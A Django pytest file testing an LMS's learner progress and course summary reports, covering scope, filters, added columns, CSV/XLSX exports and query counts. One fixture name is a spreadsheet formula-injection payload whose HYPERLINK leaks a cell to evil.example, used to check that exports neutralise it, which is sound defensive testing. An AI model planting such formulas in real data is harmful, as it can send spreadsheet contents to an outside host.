"""The learner progress and course summary reports: scope, filters, the columns other apps add
(best quiz score, attendance, certificate), exports, and query budgets."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from certificates import services as certificate_services
from certificates.models import Certificate
from courses.models import AttendanceRecord, AttendanceSource, AttendanceStatus
from lms import roles
from lms.models import Enrollment, EnrollmentStatus, LearnerCategory
from quizzes.models import Attempt, AttemptStatus
from tests.factories import (
    LearnerProfileFactory,
    UnitFactory,
    UserFactory,
    make_course,
    make_question,
    make_quiz,
    make_session,
)

PROGRESS = reverse("cds_lms_reports:learner_progress")
SUMMARY = reverse("cds_lms_reports:course_summary")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
SERIAL = "TB-2026-000123"
# What every admin page costs before its own queries (as in the other reports' tests): the
# session's user, their Wagtail profile, the admin's locales, the explorer's root (two).
WAGTAIL_ADMIN = 5


def enrol(profile, course, *, status=EnrollmentStatus.ACTIVE, progress=0, on="2026-03-05"):
    """An enrollment row as the services leave it (the reports read rows, whatever wrote them)."""
    moment = timezone.make_aware(datetime.datetime.fromisoformat(f"{on}T09:00"))
    return Enrollment.objects.create(
        user=profile.user,
        course=course,
        status=status,
        progress_percent=progress,
        enrolled_at=moment,
        last_activity_at=moment,
        completed_at=moment if status == EnrollmentStatus.COMPLETED else None,
        withdrawn_at=moment if status == EnrollmentStatus.WITHDRAWN else None,
    )


def attempt(quiz, user, number: int, percent: str, *, submitted: bool = True) -> Attempt:
    now = timezone.now()
    return Attempt.objects.create(
        quiz=quiz,
        user=user,
        number=number,
        status=AttemptStatus.SUBMITTED if submitted else AttemptStatus.IN_PROGRESS,
        started_at=now,
        submitted_at=now if submitted else None,
        score=Decimal(percent) if submitted else None,
        max_score=Decimal(100),
        percent=Decimal(percent) if submitted else None,
    )


def attend(session, user, status: str) -> None:
    AttendanceRecord.objects.create(
        session=session,
        user=user,
        status=status,
        source=AttendanceSource.SHEET,
        recorded_at=timezone.now(),
    )


@pytest.fixture
def data(province, db):
    """Two courses and three learners: in the district, in its commune (named like a formula)
    and in the department (outside the district manager's subtree).

    Course "Chính quyền số": the district learner is in progress, with quiz attempts of 60%
    and 85.5% (and 100% at the other course's quiz), present at one of its two scheduled
    sessions (a third is cancelled) and holding a certificate; the commune learner completed
    it; the department learner enrolled later and withdrew. Course "Kinh tế số" has no session.
    """
    course = make_course(lessons=1, title="Chính quyền số")
    other = make_course(lessons=1, title="Kinh tế số")
    district = LearnerProfileFactory(unit=province["district"], full_name="Ngô Huyện")
    commune = LearnerProfileFactory(
        unit=province["commune"], full_name=FORMULA, category=LearnerCategory.CITIZEN
    )
    department = LearnerProfileFactory(unit=province["department"], full_name="Trần Sở")
    enrol(district, course, progress=40)
    enrol(district, other, progress=10)
    enrol(commune, course, status=EnrollmentStatus.COMPLETED, progress=100)
    enrol(department, course, status=EnrollmentStatus.WITHDRAWN, on="2026-04-20")

    quiz = make_quiz(course, [make_question()])
    attempt(quiz, district.user, 1, "60.00")
    attempt(quiz, district.user, 2, "85.50")
    attempt(quiz, district.user, 3, "0", submitted=False)
    attempt(make_quiz(other, [make_question("Câu khác?")]), district.user, 1, "100.00")
    attempt(quiz, commune.user, 1, "70.00")

    first, second = make_session(course, starts_in_hours=-48), make_session(course)
    make_session(course, starts_in_hours=-24, cancelled_at=timezone.now())
    attend(first, district.user, AttendanceStatus.PRESENT)
    attend(second, district.user, AttendanceStatus.ABSENT)

    Certificate.objects.create(
        user=district.user,
        course=course,
        template=certificate_services.get_or_create_default_template(),
        serial=SERIAL,
        holder_name="Ngô Huyện",
        course_title="Chính quyền số",
    )
    return {"course": course, "other": other}


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def by_learner_and_course(rows: list[list[str]]) -> dict[tuple[str, str], dict[str, str]]:
    header, *body = rows
    return {(row[0], row[4]): dict(zip(header, row, strict=True)) for row in body}


# --- learner progress -------------------------------------------------------------------------


def test_the_columns_of_other_apps_show_score_attendance_and_certificate(
    admin_login, superuser, data
):
    client = admin_login(superuser)

    rows = by_learner_and_course(csv_rows(client.get(PROGRESS, {"export": "csv"})))

    district = rows[("Ngô Huyện", "Chính quyền số")]
    assert Decimal(district["Best quiz score (%)"]) == Decimal(
        "85.5"
    )  # the other course's 100% does not count
    assert (
        Decimal(district["Attendance (%)"]) == 50
    )  # 1 of 2 sessions: the cancelled one is left out
    assert district["Certificate"] == SERIAL
    assert district["Status"] == "In progress" and district["Progress (%)"] == "40"
    other = rows[("Ngô Huyện", "Kinh tế số")]
    assert Decimal(other["Best quiz score (%)"]) == 100
    assert other["Attendance (%)"] == ""  # no session in that course
    assert other["Certificate"] == ""
    commune = rows[("'" + FORMULA, "Chính quyền số")]
    assert Decimal(commune["Attendance (%)"]) == 0
    assert Decimal(commune["Best quiz score (%)"]) == 70

    page = client.get(PROGRESS).content.decode()
    assert "85.5" in page and "50.0" in page and SERIAL in page


def test_a_manager_sees_only_their_subtree_on_the_page_and_in_the_export(
    admin_login, unit_manager, data
):
    client = admin_login(unit_manager)

    page = client.get(PROGRESS).content.decode()
    rows = by_learner_and_course(csv_rows(client.get(PROGRESS, {"export": "csv"})))

    assert "Ngô Huyện" in page and "Trần Sở" not in page
    assert {learner for learner, _course in rows} == {"Ngô Huyện", "'" + FORMULA}


def test_the_unit_filter_takes_units_in_scope_and_refuses_the_others(
    admin_login, unit_manager, province, data
):
    client = admin_login(unit_manager)

    own = client.get(PROGRESS, {"unit": province["commune"].pk}).content.decode()
    assert "Ngô Huyện" not in own and "HYPERLINK" in own

    neighbour = client.get(PROGRESS, {"unit": province["department"].pk})
    page = neighbour.content.decode()
    assert "Select a valid choice" in page
    assert "Trần Sở" not in page and "Ngô Huyện" not in page  # no rows, not the whole scope
    assert (
        len(csv_rows(client.get(PROGRESS, {"unit": province["department"].pk, "export": "csv"})))
        == 1
    )


def test_course_category_status_and_dates_filter_the_rows(admin_login, superuser, data):
    client = admin_login(superuser)

    def learners(**params) -> set[tuple[str, str]]:
        return set(
            by_learner_and_course(csv_rows(client.get(PROGRESS, {**params, "export": "csv"})))
        )

    assert learners(course=data["other"].pk) == {("Ngô Huyện", "Kinh tế số")}
    assert learners(category=LearnerCategory.CITIZEN) == {("'" + FORMULA, "Chính quyền số")}
    assert learners(status=EnrollmentStatus.WITHDRAWN) == {("Trần Sở", "Chính quyền số")}
    assert learners(enrolled_from="2026-04-01", enrolled_to="2026-04-30") == {
        ("Trần Sở", "Chính quyền số")
    }
    assert learners(enrolled_to="2026-03-05") == {
        ("Ngô Huyện", "Chính quyền số"),
        ("Ngô Huyện", "Kinh tế số"),
        ("'" + FORMULA, "Chính quyền số"),
    }


def test_a_reversed_date_range_says_so_and_shows_no_rows(admin_login, superuser, data):
    client = admin_login(superuser)
    params = {"enrolled_from": "2026-04-30", "enrolled_to": "2026-03-01"}

    page = client.get(PROGRESS, params).content.decode()

    assert "The end date comes before the start date." in page
    assert "Ngô Huyện" not in page and "Trần Sở" not in page
    assert len(csv_rows(client.get(PROGRESS, {**params, "export": "csv"}))) == 1
    assert (
        "The end date comes before the start date." in client.get(SUMMARY, params).content.decode()
    )


def test_a_name_like_a_formula_is_exported_as_text(admin_login, superuser, data):
    client = admin_login(superuser)
    params = {"category": LearnerCategory.CITIZEN}

    (row,) = csv_rows(client.get(PROGRESS, {**params, "export": "csv"}))[1:]
    assert row[0] == "'" + FORMULA

    response = client.get(PROGRESS, {**params, "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == FORMULA and cell.data_type == "s"
    values = dict(zip([c.value for c in sheet[1]], [c.value for c in sheet[2]], strict=True))
    # Numbers stay numbers; an empty cell stays empty.
    assert values["Best quiz score (%)"] == 70 and values["Attendance (%)"] == 0
    assert values["Certificate"] is None


def test_the_reports_are_in_the_reports_menu_of_managers_only(
    admin_login, unit_manager, role_groups
):
    page = admin_login(unit_manager).get(reverse("wagtailadmin_home")).content.decode()
    assert PROGRESS in page and SUMMARY in page

    editor = UserFactory(username="editor@example.gov.vn")
    editor.groups.add(role_groups[roles.EDITOR])
    page = admin_login(editor).get(reverse("wagtailadmin_home")).content.decode()
    assert PROGRESS not in page and SUMMARY not in page


def test_the_reports_need_the_enrollment_permission(admin_login, learner, site_admin, db):
    for url in (PROGRESS, SUMMARY):
        assert admin_login(learner).get(url).status_code in (302, 403)
        assert admin_login(site_admin).get(url).status_code == 200


@pytest.mark.parametrize("rows", [3, 30])
def test_the_learner_progress_page_costs_the_same_for_3_or_30_rows(
    admin_login, superuser, province, rows, django_assert_num_queries
):
    course = make_course(lessons=1, title="Chính quyền số")
    make_session(course)
    unit = UnitFactory(parent=province["commune"], name="Thôn Đông", code="THON-DONG")
    for _ in range(rows):
        enrol(LearnerProfileFactory(unit=unit), course)
    client = admin_login(superuser)
    params = {"unit": province["root"].pk, "course": course.pk}
    client.get(PROGRESS, params)  # warm-up: content types, permissions
    expected = (
        WAGTAIL_ADMIN
        + 1  # the chosen unit, checked against the units the user may see
        + 1  # the chosen course, checked against the courses of the scope
        + 1  # the number of rows, for the paginator
        + 1  # the page's rows, every column an annotation (hook columns as subqueries)
        + 1  # the units offered by the filter
        + 1  # the courses offered by the filter
        + 1  # the personal data access log insert (lms.privacy: viewing the report is logged)
    )
    assert expected == 12
    with django_assert_num_queries(expected):
        response = client.get(PROGRESS, params)
    assert response.status_code == 200
    assert response.content.decode().count("Thôn Đông") == rows + 1  # each row and the filter


# --- course summary ---------------------------------------------------------------------------


def summary(client, **params) -> dict[str, list[Decimal | None]]:
    rows = csv_rows(client.get(SUMMARY, {**params, "export": "csv"}))
    assert rows[0] == [
        "Course",
        "Enrolled",
        "In progress",
        "Completed",
        "Withdrawn",
        "Completion rate (%)",
        "Average best quiz score (%)",
    ]
    # Numbers compared as numbers: SQLite and PostgreSQL write decimals with different zeros.
    return {row[0]: [Decimal(value) if value else None for value in row[1:]] for row in rows[1:]}


def test_the_course_summary_counts_each_course(admin_login, superuser, data):
    client = admin_login(superuser)

    rows = summary(client)

    # 1 completed of 2 not withdrawn; best scores 85.5 and 70 (the withdrawn learner has none).
    assert rows["Chính quyền số"] == [3, 1, 1, 1, 50, Decimal("77.75")]
    assert rows["Kinh tế số"] == [1, 1, 0, 0, 0, 100]
    page = client.get(SUMMARY).content.decode()
    assert "Chính quyền số" in page and "77.8" in page


def test_the_course_summary_is_scoped_and_filtered(admin_login, unit_manager, province, data):
    client = admin_login(unit_manager)

    assert summary(client)["Chính quyền số"] == [2, 1, 1, 0, 50, Decimal("77.75")]
    assert summary(client, unit=province["commune"].pk) == {"Chính quyền số": [1, 0, 1, 0, 100, 70]}
    assert summary(client, unit=province["department"].pk) == {}


@pytest.mark.parametrize("courses", [1, 10])
def test_the_course_summary_costs_the_same_for_few_or_many_courses(
    admin_login, superuser, province, courses, django_assert_num_queries
):
    for n in range(courses):
        course = make_course(lessons=0, title=f"Khóa {n}")
        for _ in range(3):
            enrol(LearnerProfileFactory(unit=province["commune"]), course)
    client = admin_login(superuser)
    client.get(SUMMARY)  # warm-up
    expected = (
        WAGTAIL_ADMIN
        + 1  # the number of courses, for the paginator
        + 1  # the page's rows: counts and averages grouped by course
        + 1  # the units offered by the filter
    )
    with django_assert_num_queries(expected):
        response = client.get(SUMMARY)
    assert response.status_code == 200


# --- streamed exports -------------------------------------------------------------------------


def enrollment_queries(queries) -> list[str]:
    return [q["sql"] for q in queries if 'FROM "cds_lms_enrollment"' in q["sql"]]


def test_a_csv_export_reads_its_rows_only_while_it_is_sent(admin_login, superuser, data):
    # Wagtail's listing would count the rows by loading them all before writing the file; the
    # export skips the listing and reads the rows as the response is sent.
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = admin_login(superuser)
    with CaptureQueriesContext(connection) as before_sending:
        response = client.get(PROGRESS, {"export": "csv"})
    assert response.streaming
    # The filters' choices (units, courses) are the only enrollment queries before sending.
    assert not [sql for sql in enrollment_queries(before_sending) if "learner_name" in sql]

    with CaptureQueriesContext(connection) as while_sending:
        rows = csv_rows(response)
    # One query for the rows, read in chunks from its cursor.
    assert len(enrollment_queries(while_sending)) == 1
    assert len(rows) == 1 + Enrollment.objects.count()


def test_exports_are_complete_across_chunks(admin_login, superuser, data, monkeypatch):
    # Rows are fetched a few at a time: with chunks of 2 rows, every row still arrives once.
    from lms.admin import listings

    monkeypatch.setattr(listings, "EXPORT_CHUNK_ROWS", 2)
    client = admin_login(superuser)
    expected = sorted(Enrollment.objects.values_list("user__learner_profile__full_name", flat=True))

    rows = csv_rows(client.get(PROGRESS, {"export": "csv"}))[1:]
    assert sorted(row[0].removeprefix("'") for row in rows) == expected

    response = client.get(PROGRESS, {"export": "xlsx"})
    assert response.streaming  # sent in blocks from a temporary file
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sorted(row[0] for row in sheet.iter_rows(min_row=2, values_only=True)) == expected


def test_each_report_says_how_to_read_it_in_the_admin_language(admin_login, superuser, db):
    # The explanation above the results, in the language the admin is shown in, and its
    # Vietnamese is in the catalogue
    from django.utils import translation

    from lms.reports.course_summary import CourseSummaryReportView
    from lms.reports.learner_progress import LearnerProgressReportView

    client = admin_login(superuser)
    for url, view in ((PROGRESS, LearnerProgressReportView), (SUMMARY, CourseSummaryReportView)):
        page = client.get(url).content.decode().replace("&#x27;", "'")
        language = page.split('<html lang="', 1)[1].split('"', 1)[0]
        with translation.override(language):
            assert str(view.explanation) in page
        with translation.override("vi"):
            assert str(view.explanation).startswith("Mỗi dòng")
